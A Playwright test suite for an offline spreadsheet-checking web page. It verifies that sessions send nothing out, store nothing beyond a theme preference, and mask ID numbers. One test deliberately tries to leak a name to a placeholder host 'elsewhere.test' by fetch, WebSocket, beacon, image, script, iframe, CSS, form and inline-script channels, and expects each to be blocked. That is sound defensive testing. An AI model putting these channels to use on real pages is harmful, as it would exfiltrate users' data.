/** That nothing leaves the page and nothing of a table is kept: watched through whole sessions. */
import { expect, test as base, type BrowserContext, type Page } from '@playwright/test';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';

import { BUILDS, HOSTED_FILES } from './builds';
import { cell, dropFiles, exported, fixture, list, pick, select, sheetDrawn, verdict } from './helpers';
import { Recorder } from './recorder';

/**
 * What the test's table holds, or has typed into it: none of this may be found anywhere outside
 * of the tab. (The people of the fixtures are those of the page's own examples as well, which
 * lie in the browser's cache with the page; these texts are not among them.)
 */
const SECRETS = ['6230580099118822773', '欧阳试填'];
/** The one preference there is. */
const PREFERENCES = ['nuanbiao.theme'];

const test = base.extend<{ recorder: Recorder; profile: BrowserContext }>({
  // eslint-disable-next-line no-empty-pattern -- Playwright wants the pattern
  recorder: async ({}, use) => {
    const recorder = new Recorder(HOSTED_FILES);
    await recorder.start();
    await use(recorder);
    await recorder.stop();
  },
  /** A browser with a profile of its own on the disk, whose every request goes by the recorder. */
  profile: async ({ playwright, recorder, launchOptions, viewport, locale }, use, info) => {
    const context = await playwright.chromium.launchPersistentContext(info.outputPath('profile'), {
      ...launchOptions,
      viewport,
      locale,
      proxy: { server: recorder.origin },
      downloadsPath: info.outputPath('downloads'),
    });
    await use(context);
    await context.close();
  },
});

/** Every way of keeping something that a page has, told to the test whenever it is used. */
async function watchWrites(context: BrowserContext): Promise<string[]> {
  const writes: string[] = [];
  await context.exposeBinding('tellWrite', (_, what: string) => void writes.push(what));
  await context.addInitScript(() => {
    const tell = (window as unknown as { tellWrite: (what: string) => void }).tellWrite;
    const watch = (owner: object, name: string): void => {
      const was = Reflect.get(owner, name) as (...given: unknown[]) => unknown;
      Reflect.set(owner, name, function (this: unknown, ...given: unknown[]) {
        tell(`${name} ${String(given[0])}`);
        return was.apply(this, given);
      });
    };
    watch(Storage.prototype, 'setItem');
    watch(IDBFactory.prototype, 'open');
    watch(History.prototype, 'pushState');
    watch(History.prototype, 'replaceState');
    // Not there where a page isn't trusted with them, as on file://.
    if ('CacheStorage' in window) watch(CacheStorage.prototype, 'open');
    if ('StorageManager' in window) watch(StorageManager.prototype, 'getDirectory');
    Object.defineProperty(Document.prototype, 'cookie', {
      get: () => '',
      set: (text: string) => tell(`cookie ${text}`),
    });
  });
  return writes;
}

/** Takes every export of the menu. */
async function exportAll(page: Page): Promise<void> {
  const choices = page.getByRole('menuitem');
  let count = 1;
  for (let at = 0; at < count; at += 1) {
    await page.getByRole('button', { name: '导出', exact: true }).click();
    await expect(choices.first()).toBeVisible();
    count = await choices.count();
    const choice = choices.nth(at);
    if (((await choice.textContent()) ?? '').includes('看报告')) {
      await choice.click();
      await expect(page.getByRole('dialog', { name: '核对报告' })).toBeVisible();
      await page.keyboard.press('Escape');
      await expect(page.getByRole('dialog', { name: '核对报告' })).toBeHidden();
    } else {
      await exported(page, () => choice.click());
    }
    await expect(choices.first()).toBeHidden();
  }
}

/** Everything there is to do with a table, done once. */
async function wholeSession(page: Page): Promise<void> {
  await dropFiles(page, [fixture('mistakes-15.xlsx')]);
  await sheetDrawn(page);
  await list(page).getByRole('option', { name: /D8/ }).click();
  await page.keyboard.press('F8');
  await page.getByRole('switch', { name: '证号脱敏' }).press('Space');
  await select(page, 'D6');
  await expect(cell(page, 'D6')).toHaveText('310104197105063012');
  await select(page, 'B6');
  await page.keyboard.type('欧阳试填');
  await page.keyboard.press('Enter');
  await expect(cell(page, 'B6')).toHaveText('欧阳试填');
  await page.getByRole('button', { name: /全部安全修正/ }).click();
  await page.keyboard.press('Control+z');
  await page.keyboard.press('Control+y');
  await exportAll(page);
  await page.getByRole('button', { name: /切换到深色/ }).click();
  await dropFiles(page, [fixture('encrypted.xlsx')]);
  await expect(page.getByRole('main').getByRole('alert')).toContainText('R002');
  await page.getByRole('button', { name: /粘贴表格/ }).click();
  await page
    .getByRole('textbox', { name: '粘贴到这里' })
    .fill('姓名\t银行账号\n欧阳试填\t6230580099118822773\n');
  await page.getByRole('button', { name: '核对这张表' }).click();
  await sheetDrawn(page);
  await page.getByRole('button', { name: '暖表，回到开始' }).click();
  await expect(page.getByRole('heading', { name: '把表格文件拖到这里' })).toBeVisible();
}

/** What the page has left behind in the browser. */
async function kept(
  page: Page,
): Promise<{ keys: string[]; databases: number; session: number; files: string[] }> {
  return page.evaluate(async () => {
    const files: string[] = [];
    if ('caches' in window) {
      for (const name of await caches.keys()) {
        const cache = await caches.open(name);
        for (const request of await cache.keys()) files.push(request.url);
      }
    }
    return {
      keys: Object.keys(localStorage),
      databases: (await indexedDB.databases()).length,
      session: sessionStorage.length,
      files,
    };
  });
}

/** The files under a directory that hold one of the secrets, as UTF-8 or as UTF-16. */
function filesWithSecrets(directory: string): string[] {
  const wanted = SECRETS.flatMap((text) => [Buffer.from(text), Buffer.from(text, 'utf16le')]);
  return readdirSync(directory, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => join(entry.parentPath, entry.name))
    .filter((path) => {
      const bytes = readFileSync(path);
      return wanted.some((secret) => bytes.includes(secret));
    });
}

for (const build of BUILDS) {
  test(`a whole session asks for nothing and keeps nothing: ${build.name}`, async ({
    profile,
    recorder,
  }, info) => {
    // What the page itself brings, its examples' made-up people, would stand in the browser's cache.
    expect(filesWithSecrets(HOSTED_FILES)).toEqual([]);
    const requests: string[] = [];
    profile.on('request', (request) => requests.push(request.url()));
    const writes = await watchWrites(profile);
    const refused: string[] = [];
    profile.on('console', (message) => {
      // (That the report's frame runs no scripts, the test's own included, is as it should be.)
      const own = message.text().includes("'about:srcdoc' because the document's frame is sandboxed");
      if (message.type() === 'error' && !own) refused.push(message.text());
    });

    const page = await profile.newPage();
    const home = new URL(build.url, recorder.origin).href;
    await page.goto(home);
    test.slow();
    if (build.name === 'hosted') {
      await page.evaluate(() => navigator.serviceWorker.ready.then(() => undefined));
      await page.waitForLoadState('networkidle');
    }
    const loaded = recorder.asked.length;
    await wholeSession(page);
    await expect(page.locator('a[href^="http"], [target=_blank]')).toHaveCount(0);

    // Once loaded, nothing was asked for at all: the recorder is the only way out.
    expect(recorder.asked.slice(loaded)).toEqual([]);
    expect(recorder.foreign()).toEqual([]);
    const own = (url: string) => /^(blob|about):/.test(url) || url.startsWith(home.replace(/[^/]*$/, ''));
    expect(requests.filter((url) => !own(url))).toEqual([]);
    // Nor did the page try anything that its policy had to refuse.
    expect(refused).toEqual([]);

    expect(writes.filter((what) => !PREFERENCES.some((key) => what === `setItem ${key}`))).toEqual([]);
    expect(writes).toContain('setItem nuanbiao.theme');
    const left = await kept(page);
    expect(left).toMatchObject({ keys: PREFERENCES, databases: 0, session: 0 });
    expect(await profile.cookies()).toEqual([]);
    const names = readdirSync(HOSTED_FILES, { recursive: true, withFileTypes: true })
      .filter((entry) => entry.isFile() && entry.name !== 'sw.js')
      .map((entry) => join(entry.parentPath, entry.name).slice(HOSTED_FILES.length).replace('index.html', ''))
      .map((path) => `${recorder.origin}/${path}`);
    expect(left.files.sort()).toEqual(build.name === 'hosted' ? names.sort() : []);

    await profile.close();
    expect(filesWithSecrets(info.outputPath('profile'))).toEqual([]);
  });

  test(`the browser refuses whatever would leave: ${build.name}`, async ({ profile, recorder }) => {
    const page = await profile.newPage();
    await page.goto(new URL(build.url, recorder.origin).href);
    await expect(page.getByRole('heading', { name: '把表格文件拖到这里' })).toBeVisible();
    await expect.poll(() => page.workers().length).toBeGreaterThan(0);
    const attempts = async (): Promise<string[]> => {
      const away = 'http://elsewhere.test/?陈桂芳';
      const through: string[] = [];
      const tried = (name: string, attempt: () => unknown): void => {
        try {
          attempt();
        } catch {
          through.push(`${name} threw`);
        }
      };
      await fetch(away).then(
        () => through.push('fetch'),
        () => undefined,
      );
      tried('socket', () => new WebSocket('ws://elsewhere.test/'));
      tried('events', () => new EventSource(away));
      if (typeof document !== 'undefined') {
        tried('beacon', () => navigator.sendBeacon(away, '陈桂芳'));
        tried('image', () => (new Image().src = away));
        for (const [tag, field] of [
          ['script', 'src'],
          ['iframe', 'src'],
          ['object', 'data'],
        ] as const) {
          const element = document.createElement(tag);
          element.setAttribute(field, away);
          document.body.append(element);
        }
        const sheet = document.createElement('style');
        sheet.textContent = `body { background: url("${away}"); }`;
        document.head.append(sheet);
        const form = document.createElement('form');
        form.action = away;
        document.body.append(form);
        form.submit();
        const inline = document.createElement('script');
        inline.textContent = 'window.ran = true';
        document.body.append(inline);
        if ('ran' in window) through.push('inline script');
      }
      await new Promise((later) => setTimeout(later, 500));
      return through.filter((what) => !what.endsWith('threw'));
    };
    expect(await page.evaluate(attempts)).toEqual([]);
    const worker = page.workers()[0];
    expect(await worker?.evaluate(attempts)).toEqual([]);
    expect(recorder.foreign()).toEqual([]);
  });
}

test('numbers are masked again with every file, and the page holds no whole number while they are', async ({
  page,
}) => {
  await page.goto('');
  const masking = page.getByRole('switch', { name: '证号脱敏' });
  const whole = /\d{17}[\dX]/;
  for (const leave of ['home', 'another file'] as const) {
    await pick(page, fixture('mistakes-15.xlsx'));
    await sheetDrawn(page);
    await expect(masking).toHaveAttribute('aria-checked', 'true');
    await expect(cell(page, 'D6')).toHaveText('310***********3012');
    expect(await page.content()).not.toMatch(whole);
    await masking.press('Space');
    await expect(cell(page, 'D6')).toHaveText('310104197105063012');
    if (leave === 'home') await page.getByRole('button', { name: '暖表，回到开始' }).click();
  }
  await dropFiles(page, [fixture('perfect.xlsx')]);
  await expect(verdict(page)).toHaveText('可以提交');
  await expect(masking).toHaveAttribute('aria-checked', 'true');
  await expect(cell(page, 'D6')).toHaveText('310***********3012');
  expect(await page.content()).not.toMatch(whole);
});
